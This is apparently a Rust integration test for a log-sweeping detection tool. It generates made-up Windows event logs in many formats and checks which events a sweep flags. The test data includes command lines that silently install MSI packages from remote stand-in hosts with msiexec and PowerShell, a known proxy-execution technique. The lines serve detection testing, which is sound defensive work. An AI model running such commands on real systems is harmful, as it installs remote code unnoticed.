//! `corpora/demo`: the files are what the writers make of the table below, and a sweep of them
//! gives the rows that README.md shows.
//!
//! `COLDSWEEP_BLESS=1 cargo test --test demo` writes the files anew.

mod common;

use std::io::{Cursor, Read as _, Write as _};
use std::path::{Path, PathBuf};

use coldsweep::cim::Cim;
use coldsweep::corpus::evtx_writer::{EventSpec, EvtxWriter};
use coldsweep::corpus::{
    Account, Arrangement, Details, Escapes, Exporter, GzipMembers, Happening, Inner, Kind,
    LineEnds, Payload, Separator, Style, Utf16, Writer, XmlLayout,
};
use coldsweep::reading::Reading;
use coldsweep::report::{OutputFormat, write_rows};
use coldsweep::scan::{Options, Progress, scan};
use jiff::Timestamp;

const MSIEXEC: &str = r"C:\Windows\System32\msiexec.exe";
const CMD: &str = r"C:\Windows\System32\cmd.exe";
const POWERSHELL: &str = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
const CURL: &str = r"C:\Windows\System32\curl.exe";
const EXPLORER: &str = r"C:\Windows\explorer.exe";
const WMI: &str = r"C:\Windows\System32\wbem\WmiPrvSE.exe";
const SERVICES: &str = r"C:\Windows\System32\services.exe";

/// Kind, time, host, user, command line or package, image, parent.
type Line =
    (Kind, &'static str, &'static str, &'static str, &'static str, &'static str, &'static str);

use Kind::{Logon, MsiBegin, MsiEnd, Process, Sysmon};

/// What happened in four days of March 2024. All of it is made up.
const TABLE: &[Line] = &[
    (Logon, "2024-03-11T08:40:02.511Z", "ws-114.corp.example", "m.keller", "", "", SERVICES),
    // Hits: a quiet installation from the web, and what the installer says of it.
    (
        Process,
        "2024-03-11T08:42:17.318Z",
        "ws-114.corp.example",
        "m.keller",
        r#""C:\Windows\System32\msiexec.exe" /q /i "https://cdn.update-check.example/T1218/setup.msi""#,
        MSIEXEC,
        EXPLORER,
    ),
    (
        Sysmon,
        "2024-03-11T08:42:17.320Z",
        "ws-114.corp.example",
        "m.keller",
        r#""C:\Windows\System32\msiexec.exe" /q /i "https://cdn.update-check.example/T1218/setup.msi""#,
        MSIEXEC,
        EXPLORER,
    ),
    (
        MsiBegin,
        "2024-03-11T08:42:18Z",
        "ws-114.corp.example",
        "m.keller",
        "https://cdn.update-check.example/T1218/setup.msi",
        "",
        "",
    ),
    (
        MsiEnd,
        "2024-03-11T08:42:21Z",
        "ws-114.corp.example",
        "m.keller",
        "https://cdn.update-check.example/T1218/setup.msi",
        "",
        "",
    ),
    // Near misses: from a share, from a disk, no installer.
    (
        Process,
        "2024-03-11T15:03:44.906Z",
        "ws-207.corp.example",
        "a.brandt",
        r#"msiexec.exe /i "\\deploy\apps\7zip-install.msi" /qb"#,
        MSIEXEC,
        EXPLORER,
    ),
    (
        MsiBegin,
        "2024-03-11T15:03:46Z",
        "ws-207.corp.example",
        "a.brandt",
        r"\\deploy\apps\7zip-install.msi",
        "",
        "",
    ),
    (
        Process,
        "2024-03-12T09:17:30.044Z",
        "ws-207.corp.example",
        "a.brandt",
        "curl.exe -o tool.msi https://downloads.example.org/tool.msi",
        CURL,
        CMD,
    ),
    // A hit without msiexec.
    (
        Process,
        "2024-03-12T13:05:09.671Z",
        "srv-files.corp.example",
        "svc-deploy",
        "powershell.exe -NoProfile -Command \"Invoke-CimMethod -ClassName Win32_Product -MethodName \
         Install -Arguments @{ PackageLocation = 'https://files.example.net/agent.msi' }\"",
        POWERSHELL,
        WMI,
    ),
    // A hit twice in a second: the shell and what it starts.
    (
        Process,
        "2024-03-13T22:51:40.127Z",
        "ws-207.corp.example",
        "a.brandt",
        r"C:\Windows\system32\cmd.exe /c msiexec /i http://203.0.113.7:8080/upd.msi /qn",
        CMD,
        EXPLORER,
    ),
    (
        Process,
        "2024-03-13T22:51:40.189Z",
        "ws-207.corp.example",
        "a.brandt",
        "msiexec  /i http://203.0.113.7:8080/upd.msi /qn",
        MSIEXEC,
        CMD,
    ),
    (
        Process,
        "2024-03-14T07:20:11.402Z",
        "ws-114.corp.example",
        "m.keller",
        "msiexec.exe /i https://downloads.example.org/viewer.msix",
        MSIEXEC,
        EXPLORER,
    ),
];

/// The only things known of a host that has no event log but a host monitor.
const HOST_MONITOR: &[Line] = &[
    (Process, "2024-03-12T06:00:05Z", "kiosk-07", "", r"C:\Windows\explorer.exe", EXPLORER, ""),
    (
        Process,
        "2024-03-14T03:30:55Z",
        "kiosk-07",
        "",
        r#"C:\Windows\System32\msiexec.exe /i "https://cdn.update-check.example/T1218/setup.msi" /qn"#,
        MSIEXEC,
        "",
    ),
    (
        Process,
        "2024-03-14T06:00:05Z",
        "kiosk-07",
        "",
        r"C:\Windows\System32\msiexec.exe /V",
        MSIEXEC,
        "",
    ),
];

fn each_event(table: &[Line], visit: &mut dyn FnMut(&EventSpec<'_>)) {
    let mut details = Details::default();
    for (at, line) in (0u32..).zip(table) {
        let (kind, time, computer, user, command_line, image, parent_image) = *line;
        let number = 1100 + u32::from(user.bytes().fold(0, |sum: u8, byte| sum.wrapping_add(byte)));
        let sid = format!("S-1-5-21-1302019708-1500728564-335382590-{number}").parse().unwrap();
        let account = Account { name: user, domain: "CORP", sid };
        let happening = Happening {
            kind,
            time: time.parse::<Timestamp>().unwrap(),
            record_id: 20_417 + 31 * u64::from(at),
            computer,
            account: &account,
            target: None,
            command_line,
            image,
            parent_image,
            parent_command_line: parent_image,
            process_id: 0x11a0 + 0x2c * at,
            parent_process_id: 0x9b8,
        };
        happening.event(&mut details, |event| visit(event));
    }
}

fn text(style: Style, escapes: Escapes) -> Vec<u8> {
    let mut writer = Writer::with_escapes(style, escapes, Vec::new());
    let table = if style == Style::HostMon { HOST_MONITOR } else { TABLE };
    each_event(table, &mut |event| writer.write(event).unwrap());
    writer.finish().unwrap()
}

/// Every file and what is in it, unpacked.
fn files() -> Vec<(&'static str, Vec<u8>)> {
    let least = |style| text(style, Escapes::Least);
    let json = |exporter, arrangement| least(Style::Json(exporter, arrangement));
    let mut evtx = EvtxWriter::new(Cursor::new(Vec::new())).unwrap();
    each_event(TABLE, &mut |event| evtx.write(event).unwrap());
    let mut utf16 = Utf16::new(Vec::new(), false, true).unwrap();
    utf16.write_all(&least(Style::Classic(LineEnds::Crlf))).unwrap();
    vec![
        ("evtx/events.evtx", evtx.finish().unwrap().into_inner()),
        ("xml/lines.xml", least(Style::Xml(XmlLayout::Lines))),
        ("xml/viewer.xml", least(Style::Xml(XmlLayout::Document))),
        ("xml/one-line.xml.gz", least(Style::Xml(XmlLayout::OneLine))),
        ("xml/pretty.xml.gz", least(Style::Xml(XmlLayout::Pretty))),
        ("xml/syslog.log.gz", least(Style::Xml(XmlLayout::Syslog))),
        ("xml/rendered.xml.gz", least(Style::Xml(XmlLayout::Rendered))),
        ("classic/splunk.log", least(Style::Classic(LineEnds::Mixed))),
        ("classic/lf.log.gz", least(Style::Classic(LineEnds::Lf))),
        ("classic/utf-16.log.gz", utf16.finish().unwrap()),
        ("hostmon/processes.log", least(Style::HostMon)),
        ("json/evtx-dump.jsonl", json(Exporter::EvtxDump, Arrangement::Lines)),
        ("json/winlogbeat.jsonl.gz", json(Exporter::Winlogbeat, Arrangement::Lines)),
        ("json/elastic-response.json.gz", json(Exporter::Elastic, Arrangement::Response)),
        ("json/nxlog.jsonl", json(Exporter::NxLog, Arrangement::Lines)),
        (
            "json/nxlog-escaped.json.gz",
            text(Style::Json(Exporter::NxLog, Arrangement::Array), Escapes::More),
        ),
        (
            "json/security-datasets-pretty.json.gz",
            json(Exporter::SecurityDatasets, Arrangement::Pretty),
        ),
        ("splunk/export-classic.jsonl", least(Style::Export(Inner::Classic))),
        ("splunk/results-xml.json", least(Style::Results(Inner::Xml))),
        (
            "hec/classic.json.gz",
            least(Style::Collector(Payload::Text(Inner::Classic), Separator::Nothing)),
        ),
        (
            "hec/xml.jsonl.gz",
            least(Style::Collector(Payload::Text(Inner::Xml), Separator::Newline)),
        ),
        ("hec/object.json.gz", least(Style::Collector(Payload::Object, Separator::Nothing))),
    ]
}

fn demo() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("corpora/demo")
}

/// Writes a file anew, packed if its name says so.
fn bless(path: &Path, bytes: &[u8]) {
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    if path.extension().is_some_and(|end| end == "gz") {
        let mut writer = GzipMembers::new(Vec::new(), 10_000);
        writer.write_all(bytes).unwrap();
        std::fs::write(path, writer.finish().unwrap()).unwrap();
    } else {
        std::fs::write(path, bytes).unwrap();
    }
}

/// What is in a file, unpacked: how well it is packed depends on the version of a library.
fn contents(path: &Path) -> Vec<u8> {
    let stored = std::fs::read(path).unwrap_or_else(|error| panic!("{}: {error}", path.display()));
    if path.extension().is_none_or(|end| end != "gz") {
        return stored;
    }
    let mut unpacked = Vec::new();
    flate2::read::MultiGzDecoder::new(&stored[..]).read_to_end(&mut unpacked).unwrap();
    unpacked
}

#[test]
fn the_files_are_what_the_writers_write() {
    let files = files();
    for (name, bytes) in &files {
        let path = demo().join(name);
        if std::env::var_os("COLDSWEEP_BLESS").is_some() {
            bless(&path, bytes);
        }
        assert!(contents(&path) == *bytes, "{name} is not what the writers write");
    }
    let on_disk: Vec<_> = walkdir::WalkDir::new(demo())
        .into_iter()
        .map(|entry| entry.unwrap())
        .filter(|entry| entry.file_type().is_file())
        .collect();
    assert_eq!(on_disk.len(), files.len(), "files that nobody writes: {on_disk:?}");
    let size: u64 = on_disk.iter().map(|entry| entry.metadata().unwrap().len()).sum();
    assert!(size < 300_000, "{size} bytes");
}

fn rows(format: OutputFormat, path: PathBuf) -> String {
    let plans = [common::seed_plan(Reading::AS_MEANT)];
    let options = Options { threads: 2, ..Options::default() };
    let outcome = scan(&plans, &Cim::builtin(), &[path], &options, &Progress::default()).unwrap();
    assert_eq!(outcome.skipped, []);
    let mut out = Vec::new();
    write_rows(format, &plans, &outcome, &mut out).unwrap();
    String::from_utf8(out).unwrap()
}

#[test]
fn a_sweep_gives_a_row_for_each_second_and_host_of_a_hit() {
    let all = rows(OutputFormat::Jsonl, demo());
    let groups: Vec<_> = all
        .lines()
        .map(|line| {
            let row: serde_json::Value = serde_json::from_str(line).unwrap();
            let text = |key: &str| row[key].as_str().unwrap().to_owned();
            let processes = row.get("process").map_or(0, |list| list.as_array().unwrap().len());
            (text("_time"), text("host"), processes)
        })
        .collect();
    let expected = [
        ("2024-03-11T08:42:17Z", "ws-114.corp.example", 1),
        ("2024-03-11T08:42:18Z", "ws-114.corp.example", 0),
        ("2024-03-11T08:42:21Z", "ws-114.corp.example", 0),
        ("2024-03-12T13:05:09Z", "srv-files.corp.example", 1),
        ("2024-03-13T22:51:40Z", "ws-207.corp.example", 2),
        ("2024-03-14T03:30:55Z", "kiosk-07", 1),
    ];
    let expected: Vec<_> = expected
        .map(|(time, host, processes)| (time.to_owned(), host.to_owned(), processes))
        .into_iter()
        .collect();
    assert_eq!(groups, expected);
    // The same in every format, but for the host that only the host monitor knows.
    let common: String = all
        .lines()
        .filter(|line| !line.contains("kiosk-07"))
        .map(|line| format!("{line}\n"))
        .collect();
    for (name, _) in files().iter().filter(|(name, _)| !name.starts_with("hostmon")) {
        assert_eq!(rows(OutputFormat::Jsonl, demo().join(name)), common, "{name}");
    }
}
